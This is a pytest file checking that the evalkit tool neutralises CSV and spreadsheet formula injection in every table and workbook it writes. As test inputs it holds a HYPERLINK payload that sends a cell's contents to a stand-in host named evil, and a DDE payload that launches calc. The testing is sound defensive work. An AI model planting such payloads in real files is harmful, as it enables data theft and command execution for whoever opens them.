"""No text evalkit writes to a CSV or XLSX file can become a live formula (OWASP's CSV injection rule).

A project whose unit, group and node names start with = + - @ goes through every
command that writes tables or workbooks (run, compare, plan, sensitivity,
collect templates / status); then every CSV and XLSX file written is scanned:
no formula cell, no text cell starting with = + - @ tab CR (they carry a
leading apostrophe), while numbers stay numbers (negative scores included).
"""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "unit"))
from _projects import leaf, node, write_project  # noqa: E402

sys.path.insert(0, str(Path(__file__).resolve().parent))
from _cli import run_cli  # noqa: E402

EVIL = '=HYPERLINK("http://evil/?x="&A1,"click")'
LEAD = ("=", "+", "-", "@", "\t", "\r")
NUMBER = r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?"


def dangerous(text: str) -> bool:
    """What a spreadsheet would read as a formula: = + - @ tab CR first, and not a plain number."""
    import re

    return text[:1] in LEAD and re.fullmatch(NUMBER, text) is None


@pytest.fixture(scope="module")
def written(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("inject")
    tree = node("idx", {**node("A", leaf("a1"), leaf("a2", "cost")), "name": {"zh": "=1+1", "en": "-2+3"}},
                node("B", {**leaf("b1"), "name": {"zh": "@SUM(1,2)", "en": "\tb1"}}, leaf("b2")))
    x = np.random.default_rng(3).uniform(1, 9, (4, 2, 4))
    project = write_project(root / "p", tree=tree, values=x, units=["-u1", "u2", "u3", "u4"], years=[2020, 2021],
                            groups=["=1+2", "=1+2", "@g2", "@g2"], scale=[-100, 0],
                            sensitivity={"weights": {"noise": 0.2}})
    units = pd.read_csv(root / "p" / "units.csv", dtype=str)
    units.loc[0, "name_zh"] = EVIL  # the reports' language (zh) names units by name_zh
    units.loc[1, "name_zh"] = "+cmd|' /C calc'!A0"
    units.to_csv(root / "p" / "units.csv", index=False)
    for args in (["run", str(project), "--year", "2020", "--year", "2021"],
                 ["sensitivity", str(project), "--draws", "32", "--out", "sens"],
                 ["compare", str(project), "--set", "normalize.method=zscore"],
                 ["plan", str(project), "--unit", "u2", "--year", "2021", "--rank", "1"],
                 ["collect", "templates", str(project), "--year", "2021"],
                 ["collect", "status", str(project), "--year", "2021"]):
        r = run_cli(*args, cwd=root)
        assert r.returncode == 0, (args, r.stderr)
    return root


def outputs(root: Path, ext: str) -> list[Path]:
    inputs = {root / "p" / "values.csv", root / "p" / "units.csv"}
    return [p for p in sorted(root.rglob(f"*.{ext}")) if p not in inputs]


def test_every_csv_cell_is_neutralised_and_written_with_a_bom(written):
    files = outputs(written, "csv")
    names = {p.name for p in files}
    assert {"results.csv", "weights.csv", "region_groups.csv", "compare.csv", "plan-u2-2021.csv",
            "robustness.csv", "templates.csv", "collect-status-2021.csv"} <= names
    seen_escaped, seen_negative = set(), 0
    for path in files:
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name}: no UTF-8 BOM"
        for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))):
            for field in row:
                assert not dangerous(field), f"{path.name}: live formula text {field!r}"
                if field.startswith("'"):
                    seen_escaped.add(field)
                if field.startswith("-") and not dangerous(field):
                    seen_negative += 1
    assert {"'=1+2", "'@g2", "'-u1"} <= seen_escaped  # group names, unit ids
    assert seen_negative > 0  # negative scores (scale [-100, 0]) stay plain numbers
    back = pd.read_csv(written / "p" / "out" / "results.csv")  # pandas reads the BOM away
    assert list(back.columns[:3]) == ["unit", "year", "node"] and (back["score"] < 0).any()
    groups = pd.read_csv(written / "p" / "out" / "region_groups.csv", dtype=str)
    assert "'=1+2" in groups.to_numpy().ravel().tolist()


def test_no_workbook_cell_is_a_formula_and_numbers_stay_numbers(written):
    books = outputs(written, "xlsx")
    assert {p.name for p in books} >= {"results.xlsx"} and len(books) >= 3  # results, sens, templates
    escaped, negative = set(), 0
    for path in books:
        wb = load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", f"{path.name}!{ws.title}!{c.coordinate}: formula {c.value!r}"
                    if isinstance(c.value, str):
                        assert not dangerous(c.value), f"{path.name}!{ws.title}!{c.coordinate}: {c.value!r}"
                        if c.value.startswith("'"):
                            escaped.add(c.value.split(" (")[0])
                    elif isinstance(c.value, (int, float)) and c.value < 0:
                        negative += 1
    assert {"'" + EVIL, "'=1+1", "'=1+2", "'@g2", "'-u1", "'\tb1"} <= escaped
    assert negative > 0


def test_templates_of_neutralised_codes_merge_back(written):
    """A unit id starting with '-' is written as '-u1 in the templates; merge reads it back as -u1."""
    books = sorted((written / "p" / "collect" / "2021").glob("*.xlsx"))
    r = run_cli("collect", "merge", str(written / "p" / "evalkit.yaml"), *map(str, books), "--dry-run", cwd=written)
    assert r.returncode == 0, r.stderr
    assert "unknown" not in r.stderr and "not in the units file" not in r.stderr


@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-", "'-"), ("-3.5", "-3.5"), ("+2", "+2"), ("-1e-5", "-1e-5"), ("a=b", "a=b"), ("", ""),
    ("'=x", "'=x"), (-3.5, -3.5), (None, None), (True, True)])
def test_safe_text_follows_the_owasp_rule(value, expected):
    from evalkit.output import safe_text

    assert safe_text(value) == expected


def test_safe_frame_leaves_numbers_and_clean_text_alone():
    from evalkit.output import safe_frame

    df = pd.DataFrame({"unit": ["=a", "b"], "score": [-1.5, 2.0], "rank": pd.array([1, None], dtype="Int64"),
                       "=col": [True, False]})
    out = safe_frame(df)
    assert out["unit"].tolist() == ["'=a", "b"] and list(out.columns) == ["unit", "score", "rank", "'=col"]
    assert out["score"].dtype == np.float64 and out["rank"].dtype == df["rank"].dtype
    assert df["unit"].tolist() == ["=a", "b"]  # the caller's frame is not changed
    clean = df.iloc[:, :3].assign(unit=["a", "b"])
    assert safe_frame(clean) is clean


def test_libreoffice_shows_the_names_as_text(written, tmp_path):
    """LibreOffice evaluates =HYPERLINK(...) in a formula cell (it would show 'click'); our cell is text.
    Without soffice (and EVALKIT_REQUIRE_LIBREOFFICE unset) the openpyxl checks above stand in."""
    import os
    import shutil
    import subprocess

    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        assert os.environ.get("EVALKIT_REQUIRE_LIBREOFFICE") != "1", "soffice is not installed"
        return
    book = written / "p" / "out" / "results.xlsx"
    r = subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
                        "--norestore", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir",
                        str(tmp_path), str(book)], capture_output=True, text=True, timeout=180)
    out = tmp_path / "results.csv"
    assert r.returncode == 0 and out.is_file(), r.stdout + r.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))  # the first sheet: level 0
    names = [row[1] for row in rows[2:]]
    assert "'" + EVIL in names and "click" not in names
